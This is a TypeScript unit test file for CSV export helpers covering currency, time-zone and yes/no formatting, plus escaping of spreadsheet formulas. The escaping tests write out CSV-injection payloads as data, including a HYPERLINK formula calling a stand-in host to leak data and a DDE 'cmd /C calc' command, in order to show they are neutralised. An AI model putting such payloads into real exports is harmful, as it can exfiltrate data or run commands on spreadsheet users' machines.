import { amountCell, formulaSafeCell, formulaSafeCellText, shopDateTimeCell, yesNoCell } from './csv-cells';

describe('CSV cells', () => {
  it.each([
    [0, '0.00'],
    [5, '0.05'],
    [14990, '149.90'],
    [100000, '1000.00'],
    [-2550, '-25.50'],
  ])('%i agorot is written %s', (agorot, text) => expect(amountCell(agorot)).toBe(text));

  it.each([
    // Winter (UTC+2) and summer (UTC+3) in Jerusalem; the shop's day can differ from UTC's.
    ['2026-01-15T22:30:00Z', 'Asia/Jerusalem', '2026-01-16 00:30:00'],
    ['2026-07-01T09:05:07Z', 'Asia/Jerusalem', '2026-07-01 12:05:07'],
    ['2026-07-01T09:05:07Z', 'UTC', '2026-07-01 09:05:07'],
  ])('%s is written on the %s clock as %s', (iso, zone, text) => expect(shopDateTimeCell(new Date(iso), zone)).toBe(text));

  it('writes no date as an empty cell and booleans as yes/no', () => {
    expect(shopDateTimeCell(null, 'Asia/Jerusalem')).toBe('');
    expect([yesNoCell(true), yesNoCell(false)]).toEqual(['yes', 'no']);
  });

  it.each([
    ['=HYPERLINK("http://x.example/?leak","click me")', '\'=HYPERLINK("http://x.example/?leak","click me")'],
    ['+SUM(1,2)', "'+SUM(1,2)"],
    ["-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"],
    ['@SUM(1,1)', "'@SUM(1,1)"],
    ['\tTAB', "'\tTAB"],
    ['\rCR', "'\rCR"],
    ["'quoted", "''quoted"],
    ['-12.50', '-12.50'],
    ['+972', '+972'],
    ['שלום', 'שלום'],
    ['', ''],
  ])('%j is written %j and read back as it was', (text, cell) => {
    expect(formulaSafeCell(text)).toBe(cell);
    expect(formulaSafeCellText(cell)).toBe(text);
  });

  it('reads an apostrophe a person typed before ordinary text as part of it', () => {
    expect(formulaSafeCellText("'abc")).toBe("'abc");
  });
});
